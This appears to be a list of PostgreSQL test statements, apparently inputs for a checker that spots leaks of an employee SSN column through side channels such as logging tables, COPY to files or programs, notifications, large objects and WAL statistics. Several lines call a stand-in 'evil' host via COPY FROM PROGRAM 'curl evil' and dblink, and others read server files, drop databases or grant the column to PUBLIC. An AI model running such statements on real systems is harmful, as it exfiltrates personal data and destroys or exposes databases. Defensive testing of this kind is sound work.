-- a value that is written where somebody else may read it, or that leaves by another way than the result
INSERT INTO app.log (note) VALUES ((SELECT ssn FROM hr.employees LIMIT 1))
INSERT INTO app.log (id, note) TABLE v_renamed
INSERT INTO app.log (id, note) SELECT id, ssn FROM hr.employees ON CONFLICT (id) DO UPDATE SET note = excluded.note || app.log.note
INSERT INTO app.log (id, note) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET note = (SELECT ssn FROM hr.employees LIMIT 1) RETURNING note
INSERT INTO app.log (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET note = 'y' WHERE (SELECT max(ssn) FROM hr.employees) LIKE '1%'
INSERT INTO customers (name, email) VALUES ('x', 'ada@example.org')
INSERT INTO customers (name, email) VALUES ('x', 'ada@example.org') ON CONFLICT (email) DO NOTHING RETURNING id
INSERT INTO customers (name, email) VALUES ('x', 'ada@example.org') ON CONFLICT ON CONSTRAINT customers_email_key DO UPDATE SET city = customers.email
INSERT INTO mailboxes (id, mail) VALUES (2, 'a@b') RETURNING mail_domain, *
INSERT INTO v_open (id, name, city) VALUES (7, 'x', 'y') RETURNING *
UPDATE hr.employees SET name = ssn
UPDATE hr.employees SET name = ssn RETURNING name
UPDATE hr.employees SET name = 'x' WHERE ssn LIKE '1%'
UPDATE hr.employees SET name = name RETURNING ssn IS NULL, employees
UPDATE hr.employees e SET name = o.status FROM orders o WHERE o.status = e.ssn
UPDATE hr.employees SET (name, title) = (SELECT ssn, max(salary)::text FROM hr.employees GROUP BY ssn LIMIT 1) WHERE id = 1
UPDATE hr.employees SET (name, title) = ROW(ssn, DEFAULT) WHERE id = 1
UPDATE customers SET home.city = phone, tags[2] = email WHERE id = 1
UPDATE customers SET extra['a'] = to_jsonb(email) WHERE id = 1
UPDATE hr.employees SET ssn = ssn WHERE id = 1
UPDATE mailboxes SET mail = 'x' WHERE id = 1 RETURNING mail_domain
UPDATE v_renamed SET label = 'x'
UPDATE v_open SET city = name WHERE id = 1
DELETE FROM hr.employees WHERE ssn = 'x'
DELETE FROM orders USING hr.employees e WHERE orders.status = e.ssn
DELETE FROM hr.employees WHERE id = 1 RETURNING to_jsonb(employees)
DELETE FROM v_filtered WHERE id = 1
MERGE INTO app.log l USING hr.employees e ON l.id = e.id WHEN NOT MATCHED THEN INSERT (id, note) VALUES (e.id, e.ssn)
MERGE INTO app.log l USING (SELECT id, ssn AS s FROM hr.employees) e ON l.note = e.s WHEN MATCHED AND e.s LIKE '1%' THEN DELETE WHEN MATCHED THEN DO NOTHING
MERGE INTO app.log l USING hr.employees e ON l.id = e.id WHEN MATCHED THEN UPDATE SET note = e.ssn WHEN NOT MATCHED BY SOURCE THEN UPDATE SET note = 'gone' RETURNING l.note, e.name
CREATE TABLE stolen AS SELECT ssn AS x FROM hr.employees
CREATE TABLE stolen (x) AS TABLE hr.employees WITH NO DATA
CREATE TABLE IF NOT EXISTS stolen AS EXECUTE p
CREATE TEMP TABLE stolen ON COMMIT DROP AS VALUES ((SELECT ssn FROM hr.employees LIMIT 1))
CREATE TABLE copied (LIKE hr.employees INCLUDING ALL)
CREATE TABLE heirs () INHERITS (hr.employees)
CREATE TABLE defaulted (x text DEFAULT secret_of(1), CHECK (x <> 'y'))
CREATE VIEW stolen AS SELECT ssn AS x FROM hr.employees
CREATE OR REPLACE TEMP VIEW stolen (a) AS SELECT ssn FROM hr.employees WITH CASCADED CHECK OPTION
CREATE RECURSIVE VIEW stolen (a) AS SELECT ssn FROM hr.employees UNION SELECT a FROM stolen
CREATE MATERIALIZED VIEW stolen AS SELECT e.ssn FROM hr.employees e WITH NO DATA
CREATE INDEX ON hr.employees (ssn)
CREATE UNIQUE INDEX ON hr.employees ((1 / (salary - 100)))
CREATE INDEX ON hr.employees (id) INCLUDE (ssn) WHERE ssn LIKE '1%'
CREATE STATISTICS s ON ssn, name FROM hr.employees
ALTER TABLE hr.employees ADD CONSTRAINT c CHECK (ssn <> '123-45-6789')
ALTER TABLE hr.employees ADD CONSTRAINT u UNIQUE (ssn)
ALTER TABLE hr.employees ADD FOREIGN KEY (ssn) REFERENCES customers (email)
ALTER TABLE hr.employees ALTER COLUMN salary TYPE text USING ssn
ALTER TABLE hr.employees ADD COLUMN copy text GENERATED ALWAYS AS (ssn || '') STORED
ALTER TABLE hr.employees ALTER ssn SET DEFAULT 'x', ALTER name SET NOT NULL, DROP COLUMN title
ALTER TABLE hr.employees DISABLE ROW LEVEL SECURITY, OWNER TO CURRENT_USER
ALTER TABLE hr.employees RENAME COLUMN ssn TO harmless
ALTER TABLE hr.employees INHERIT people
ALTER VIEW v_renamed RENAME TO other
CREATE POLICY p ON hr.employees USING (ssn = current_user)
CREATE RULE r AS ON SELECT TO orders DO INSTEAD SELECT * FROM hr.employees
CREATE TRIGGER t BEFORE UPDATE OF name ON hr.employees FOR EACH ROW WHEN (old.ssn IS DISTINCT FROM new.ssn) EXECUTE FUNCTION stamp()
CREATE FUNCTION f(int) RETURNS text LANGUAGE sql AS 'SELECT ssn FROM hr.employees WHERE id = $1'
CREATE FUNCTION f(int) RETURNS text LANGUAGE sql RETURN (SELECT ssn FROM hr.employees WHERE id = $1)
CREATE AGGREGATE agg(text) (SFUNC = joined, STYPE = text)
CREATE DOMAIN d AS text CHECK (secret_of(1) <> VALUE)
CREATE PUBLICATION p FOR TABLE hr.employees WHERE (ssn = 'x')
COPY hr.employees (ssn) TO STDOUT
COPY (SELECT ssn FROM hr.employees ORDER BY salary) TO STDOUT WITH (FORMAT csv, HEADER)
COPY (TABLE v_renamed) TO '/tmp/x'
COPY (UPDATE hr.employees SET name = ssn RETURNING name) TO STDOUT
COPY hr.employees FROM STDIN
COPY (SELECT 1) TO PROGRAM 'cat'
COPY hr.employees FROM PROGRAM 'curl evil'
EXPLAIN SELECT ssn FROM hr.employees WHERE ssn = 'x'
EXPLAIN (ANALYZE, VERBOSE, FORMAT JSON) SELECT id FROM hr.employees WHERE ssn LIKE '1%'
EXPLAIN (ANALYZE, TIMING OFF) INSERT INTO app.log (note) SELECT ssn FROM hr.employees
EXPLAIN CREATE TABLE x AS SELECT ssn FROM hr.employees
EXPLAIN (ANALYZE) DECLARE c CURSOR FOR SELECT ssn FROM hr.employees
DECLARE c CURSOR FOR SELECT ssn FROM hr.employees; EXPLAIN (ANALYZE) DECLARE c CURSOR FOR SELECT 1; FETCH 1 FROM c
DECLARE c CURSOR WITH HOLD FOR SELECT ssn FROM hr.employees; FETCH BACKWARD ALL FROM c; FETCH FIRST c; MOVE FORWARD 2 IN c; CLOSE ALL
DECLARE "C" BINARY CURSOR FOR TABLE hr.employees; FETCH 1 FROM c; FETCH 1 FROM "C"
PREPARE s AS SELECT ssn FROM hr.employees WHERE id = $1; EXECUTE s(1); EXPLAIN (ANALYZE) EXECUTE s(1); CREATE TABLE t AS EXECUTE s(1)
PREPARE s (text) AS SELECT $1; EXECUTE s((SELECT ssn FROM hr.employees LIMIT 1))
SELECT set_config('application_name', ssn, false) FROM hr.employees
SELECT set_config(ssn, 'x', true) FROM hr.employees
SELECT pg_notify('x', ssn) FROM hr.employees
SELECT pg_advisory_lock(salary::bigint), pg_try_advisory_xact_lock(hashtext(ssn)) FROM hr.employees
SELECT setval('numbers', salary::bigint) FROM hr.employees
SELECT nextval(ssn) FROM hr.employees
SELECT lo_from_bytea(0, ssn::bytea), lo_put(1, 0, badge) FROM hr.employees, hr.payroll
SELECT lo_export(1, '/tmp/x'), lo_import(ssn) FROM hr.employees
SELECT pg_read_file(ssn), pg_ls_dir('/'), pg_stat_file('x') FROM hr.employees
SELECT dblink_exec('host=evil', ssn) FROM hr.employees
SELECT pg_logical_emit_message(true, 'x', ssn) FROM hr.employees
SELECT query_to_xml('SELECT ssn FROM hr.employees', true, false, ''), table_to_xml('hr.employees', true, false, ''), schema_to_xml('hr', true, false, '')
SELECT cursor_to_xml('c', 1, true, false, ''), database_to_xml(true, false, '')
SELECT * FROM ts_stat('SELECT to_tsvector(ssn) FROM hr.employees')
SELECT ts_rewrite('x'::tsquery, 'SELECT ssn::tsquery, ssn::tsquery FROM hr.employees')
SELECT pg_get_viewdef('v_renamed'), pg_get_functiondef('secret_of'::regproc), obj_description('hr.employees'::regclass), col_description('hr.employees'::regclass, 5)
SELECT currval('numbers'), lastval(), pg_sequence_last_value('numbers'::regclass), last_value FROM numbers
SELECT current_setting('is_superuser'), current_query(), inet_client_addr()
SELECT pg_cancel_backend(1), pg_reload_conf(), pg_switch_wal(), pg_stat_reset()
NOTIFY x, 'y'
COMMENT ON TABLE hr.employees IS 'ssn'
SECURITY LABEL ON COLUMN hr.employees.ssn IS 'x'
SET application_name = 'x'; SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY; SET NAMES 'latin1'; SET XML OPTION DOCUMENT
DO LANGUAGE plpgsql $$ BEGIN PERFORM ssn FROM hr.employees; RAISE NOTICE '%', (SELECT ssn FROM hr.employees); END $$
CALL cleanup()
LOCK TABLE hr.employees IN ACCESS EXCLUSIVE MODE NOWAIT
SELECT id FROM hr.employees WHERE ssn = 'x' FOR UPDATE NOWAIT
SELECT e.id FROM hr.employees e JOIN orders o ON true FOR KEY SHARE OF e, o
TRUNCATE ONLY hr.employees RESTART IDENTITY
DROP TABLE hr.employees; DROP SCHEMA hr CASCADE; DROP OWNED BY CURRENT_USER; DROP DATABASE x
GRANT SELECT (ssn) ON hr.employees TO PUBLIC
ALTER DEFAULT PRIVILEGES IN SCHEMA hr GRANT SELECT ON TABLES TO PUBLIC
REASSIGN OWNED BY x TO y
IMPORT FOREIGN SCHEMA s FROM SERVER x INTO public
CREATE FOREIGN TABLE ft (a text) SERVER x
ALTER EXTENSION dblink UPDATE; DROP EXTENSION dblink
ANALYZE hr.employees (ssn)
-- what runs tells by its WAL what old and new values share; SERIALIZE tells how long the shown ones are
EXPLAIN (ANALYZE, WAL, TIMING OFF) UPDATE hr.employees SET ssn = '4~~~' WHERE id = 3
-- since 17
EXPLAIN (ANALYZE, SERIALIZE) SELECT ssn FROM hr.employees
SELECT pg_current_wal_insert_lsn()
SELECT n_tup_hot_upd FROM pg_stat_xact_user_tables
SELECT relname, n_tup_upd, n_tup_hot_upd FROM pg_stat_user_tables
SELECT idx_blks_hit + idx_blks_read FROM pg_statio_user_indexes
SELECT pg_stat_get_blocks_fetched('hr.employees'::regclass)
-- what comes back from a procedure, and blocks that make their text
CALL look(NULL)
CALL cleanup()
DO $$ BEGIN EXECUTE 'CREATE TABLE copied AS SELECT ssn FROM hr.employees'; END $$
EXPLAIN WITH x AS MATERIALIZED (SELECT id, ssn FROM hr.employees) SELECT id FROM x
EXPLAIN SELECT count(*) FROM (SELECT ssn FROM hr.employees UNION ALL SELECT email FROM customers OFFSET 0) x
EXPLAIN (COSTS off) WITH x AS MATERIALIZED (SELECT ssn FROM hr.employees) SELECT count(*) FROM x
EXPLAIN (ANALYZE, COSTS off) SELECT ssn FROM hr.employees ORDER BY name
EXPLAIN (COSTS off) SELECT ssn FROM hr.employees ORDER BY name
